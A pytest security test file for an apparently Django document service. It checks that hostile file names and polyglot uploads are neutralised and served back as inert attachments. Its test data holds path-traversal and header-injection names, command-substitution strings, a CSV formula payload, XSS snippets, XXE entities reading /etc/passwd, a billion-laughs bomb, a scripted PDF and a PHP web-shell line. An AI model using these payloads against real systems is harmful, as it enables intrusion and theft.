"""Files made to be more than documents, and names made to be more than names: kept as bytes, handed back as bytes.

Whatever a file is called and whatever it claims to be, it is either refused with a sentence or read as a text, asks no
machine for anything meanwhile, and comes back byte by byte as an attachment that no browser takes for a page.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from lxml import etree

from claims.models import Sheet
from claims.sheets import keep_sheet
from sources.downloads import harmless_name
from sources.extracting import extract
from sources.importing import Arrival, import_document
from sources.models import Document
from tests.factories import NOW
from tests.security.test_ssrf import a_server
from tests.sources.extracting.test_hostile import docx, pdf

NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/etc/cron.d/job",
    "C:\\autoexec.bat",
    "stream.txt:hidden.exe",
    "~/.bashrc",
    ".htaccess",
    ".",
    "..",
    "...",
    "   ",
    "a\0b.txt",
    "invoice\u202etxt.exe",
    "in\u2066vo\u2069ice\u200b.txt",
    "CON",
    "con.txt",
    "NUL.",
    "lpt1.pdf",
    "line\nbreak.txt",
    "report.txt\r\nSet-Cookie: session=stolen\r\n\r\n<script>",
    'quote".txt',
    'a.txt"; filename="evil.html',
    "a.txt; filename=evil.html",
    "a.txt; filename*=utf-8''evil.html",
    "back\\slash.txt",
    "%2e%2e%2fpasswd",
    "%0d%0aX-Evil: yes",
    "<img src=x onerror=alert(1)>.html",
    "=cmd|' /C calc'!A0.csv",
    "-rf",
    "$(reboot).txt",
    "`reboot`.txt",
    "七条船.txt",
    "\U0001f6a2.txt",
    "x" * 300 + ".txt",
    "七" * 300,
    "\ud800.txt",
    "\x1b[31mred\x07.txt",
    "a\u2028b\x85c.txt",
]
_HEADER = re.compile(r"attachment; filename(=\"(?P<plain>[^\"]*)\"|\*=utf-8''(?P<packed>[A-Za-z0-9.%_~!$&+^`|#-]+))")


def name_offered(response) -> str:
    """The file name that a browser reads in the answer, which says nothing else in that header."""
    found = _HEADER.fullmatch(response.headers["Content-Disposition"])
    assert found, response.headers["Content-Disposition"]
    return unquote(found["packed"]) if found["packed"] else found["plain"]


def is_a_file_to_save(response, data: bytes) -> bool:
    return bool(
        response.status_code == 200
        and response.content == data
        and response.headers["Content-Type"] == "application/octet-stream"
        and response.headers["X-Content-Type-Options"] == "nosniff"
        and response.headers["Content-Disposition"].startswith("attachment; filename")
        and "default-src 'none'" in response.headers["Content-Security-Policy"]
    )


def originals(client: Client, document: Document):
    """The two ways to a document's bytes."""
    yield client.get(reverse("api:document-original", args=[document.pk]))
    yield client.get(reverse("admin:sources_document_original", args=[document.pk]))


# ---- names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_becomes_a_plain_one(client, world, name):
    data = b"Nine ships left the harbour."
    imported = import_document(dossier=world.dossier, data=data, arrival=Arrival(name=name), at=NOW, extract=extract)
    document = imported.document
    client.force_login(world.chief)
    for response in originals(client, document):
        assert is_a_file_to_save(response, data)
        offered = name_offered(response)
        assert 0 < len(offered) <= 255
        assert offered.isprintable()
        assert not set(offered) & set('/\\:*?"<>|')
        assert offered == offered.strip(" .")
        assert not re.match(r"(con|nul|lpt1)(\.|$)", offered, re.IGNORECASE)
    document.refresh_from_db()
    assert len(document.file_name) <= 255
    assert client.get(reverse("admin:sources_document_change", args=[document.pk])).status_code == 200


@pytest.mark.parametrize("name", ["line\nbreak\r\nSet-Cookie: a=b", "\u202egnp.exe", "a\tb"])
def test_a_name_that_came_into_the_table_some_other_way_harms_nobody_either(client, world, name):
    document = import_document(
        dossier=world.dossier, data=b"Nine ships.", arrival=Arrival(name="a.txt"), at=NOW, extract=extract
    ).document
    Document.objects.filter(pk=document.pk).update(file_name=name)
    client.force_login(world.chief)
    for response in originals(client, document):
        assert is_a_file_to_save(response, b"Nine ships.")
        assert name_offered(response).isprintable()


@pytest.mark.parametrize("name", NAMES[::3])
def test_a_sheet_of_any_name_gives_back_its_faults_under_a_plain_one(client, world, name):
    sheet, _ = keep_sheet(
        dossier=world.dossier, data=b"statement,value\nx,y\n", name=name.replace("\0", ""), by=world.chief, at=NOW
    )
    client.force_login(world.chief)
    response = client.get(reverse("sheet_errors", args=[sheet.pk]))
    assert response.status_code == 200
    assert name_offered(response).isprintable()
    assert name_offered(response).endswith(".csv")
    assert client.get(reverse("sheet", args=[sheet.pk])).status_code == 200


@pytest.mark.parametrize("name", ["../../x\u202e.txt", 'q".txt', "line\nbreak.txt", "x" * 300, "CON", "\r\n\r\nX: y"])
def test_names_come_through_every_form_of_the_desk_without_harm(client, world, name):
    client.force_login(world.chief)
    for number, (address, field, more) in enumerate(
        [
            (reverse("import"), "documents", {"dossier": world.dossier.pk}),
            (reverse("sheets"), "table", {"dossier": world.dossier.pk}),
            (reverse("api:documents"), "file", {"dossier": world.dossier.slug}),
        ]
    ):
        data = f"statement,value\nAbout {number + 20} ships left.,{number + 20}\n".encode()
        given = {field: SimpleUploadedFile("x.txt", data)}
        setattr(given[field], "_name", name)  # noqa: B010 - past its own check, as a client that takes no care sends it
        assert client.post(address, {**more, **given}).status_code in (200, 201, 302, 400)
    names = [*Document.objects.values_list("file_name", flat=True), *Sheet.objects.values_list("file_name", flat=True)]
    assert all(each.isprintable() and "/" not in each for each in names)


def test_what_is_left_of_a_name_without_a_letter_is_nothing():
    assert [harmless_name(name) for name in ("", "..", " . ", "\u202e", "///")] == [""] * 5
    assert harmless_name("七条船 2026.txt") == "七条船 2026.txt"


# ---- polyglots ------------------------------------------------------------------------------------

SCRIPT = "<script>fetch('http://{there}/script')</script><img src='http://{there}/pixel'>"


def _zip(**files: str) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name.replace("__", "."), text)
    return held.getvalue()


def _docx_with_outside_parts(there: str) -> bytes:
    words = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    data = docx(
        f'<w:document xmlns:w="{words}"><w:body><w:p><w:r><w:t>Nine ships left.</w:t></w:r></w:p></w:body>'
        "</w:document>".encode()
    )
    held = io.BytesIO(data)
    with zipfile.ZipFile(held, "a") as archive:
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
        archive.writestr(
            "word/_rels/document.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r9" Type="{kind}" Target="http://{there}/template.dotm" TargetMode="External"/>'
            "</Relationships>",
        )
    return held.getvalue()


def _pdf_with_script(there: str) -> bytes:
    stream = b"BT /F1 12 Tf 20 50 Td (Nine ships left the harbour.) Tj ET"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >>"
        b" /AA << /O << /S /URI /URI (http://" + there.encode() + b"/uri) >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /S /JavaScript /JS (app.launchURL\\('http://" + there.encode() + b"/js'\\);) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def _entities(kind: str) -> Callable[[str], bytes]:
    def of(there: str) -> bytes:
        if kind == "laughs":
            inner = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
            return f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "ha">{inner}]><d>&e11;</d>'.encode()
        where = "file:///etc/passwd" if kind == "file" else f"http://{there}/entity"
        return f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "{where}">]><d>Nine ships: &x;</d>'.encode()

    return of


def _text(before: str, after: str = "") -> Callable[[str], bytes]:
    return lambda there: (before + SCRIPT + after).replace("{there}", there).encode()


POLYGLOTS: dict[str, Callable[[str], bytes]] = {
    "html": _text("<!doctype html><html><body><p>Nine ships left the harbour.</p>"),
    "html with a base and a refresh": lambda there: (
        f"<html><head><base href='http://{there}/'><meta http-equiv=refresh content='0;url=http://{there}/'>"
        "<link rel=stylesheet href=a.css></head><body><p>Nine ships left the harbour.</p><iframe src=b></iframe>"
    ).encode(),
    "html that says it is a pdf": _text("%PDF-1.7\n<html><body>"),
    "pdf after html": lambda there: _text("<html>")(there) + b"\n" + _pdf_with_script(there),
    "html that says it is a gif": _text("GIF89a=1;/*", "*/"),
    "html that says it is a png": lambda there: b"\x89PNG\r\n\x1a\n" + _text("")(there),
    "html in a zip": lambda there: _zip(index__html=SCRIPT.replace("{there}", there)),
    "html after a zip": lambda there: _zip(a__txt="Nine ships.") + _text("<html>")(there),
    "a zip within itself": lambda there: _zip(a__zip=_zip(b__zip="x" * 1000).decode("latin-1")),
    "svg": _text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>Nine ships</text>', "</svg>"),
    "svg that says it is xml": _text('<?xml version="1.0"?><?xml-stylesheet href="http://{there}/x"?><svg>', "</svg>"),
    "xml with an entity of this machine": _entities("file"),
    "xml with an entity of another machine": _entities("http"),
    "a billion laughs": _entities("laughs"),
    "html in utf-7": lambda there: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- Nine ships left.",
    "html with a mark of utf-16": lambda there: ("\ufeff" + SCRIPT.replace("{there}", there)).encode("utf-16-le"),
    "markdown with html": _text(
        "# Nine ships\n\n[a](javascript:alert(1)) ![b](http://{there}/b)\n\n", "\n\nLeft the harbour.\n"
    ),
    "multipart html": _text("MIME-Version: 1.0\nContent-Type: text/html\n\n<html>"),
    "pdf with a script": _pdf_with_script,
    "docx with a template elsewhere": _docx_with_outside_parts,
    "flash": lambda there: b"CWS\x0a" + bytes(range(256)),
    "a program": lambda there: b"MZ\x90\0" + bytes(200),
    "a script of the shell": _text("#!/bin/sh\ncurl http://{there}/\n# "),
    "php": _text("<?php system($_GET['c']); ?>"),
}
READ = {"html", "markdown with html", "pdf with a script", "docx with a template elsewhere", "html in utf-7"}


@pytest.mark.parametrize("kind", POLYGLOTS)
def test_a_file_of_two_kinds_runs_nothing_asks_nobody_and_comes_back_as_it_came(client, world, kind):
    client.force_login(world.chief)
    with a_server() as canary:
        data = POLYGLOTS[kind](f"127.0.0.1:{canary.port}")
        given = {"dossier": world.dossier.slug, "file": SimpleUploadedFile("a.html", data, content_type="text/html")}
        answer = client.post(reverse("api:documents"), given)
        assert answer.status_code in (201, 400, 415), answer.content
        if answer.status_code != 201:
            assert kind not in READ
            assert len(answer.json()["detail"]) > 20
            assert not Document.objects.exists()
        else:
            _comes_back(client, Document.objects.get(), data)
    assert canary.visits == 0


def _comes_back(client: Client, document: Document, data: bytes) -> None:
    assert document.media_type in ("text/html", "text/markdown", "text/plain", "application/pdf") or "word" in (
        document.media_type
    )
    assert "root:" not in document.text
    assert len(document.text) < 100_000
    for response in originals(client, document):
        assert is_a_file_to_save(response, data)
    text = client.get(reverse("api:document-text", args=[document.pk]))
    assert text.headers["Content-Type"].startswith("text/plain")
    assert text.headers["X-Content-Type-Options"] == "nosniff"
    assert text.content.decode() == document.text
    page = client.get(reverse("admin:sources_document_change", args=[document.pk])).content.decode()
    told = re.sub(r"(?s)<script[^>]*src=[^>]*></script>", "", page)
    assert not re.search(r"<script(?![^>]*application/json)|<iframe|<svg[^>]*onload|=[\"']?javascript:", told)
    assert "127.0.0.1:" not in " ".join(re.findall(r'(?:src|href|action)="([^"]*)"', told))


def test_a_reader_of_xml_that_takes_entities_at_their_word_does_read_the_file():
    """The control of the entities."""
    said = etree.fromstring(_entities("file")("nowhere"), etree.XMLParser(resolve_entities=True))
    assert "root:" in "".join(said.itertext())
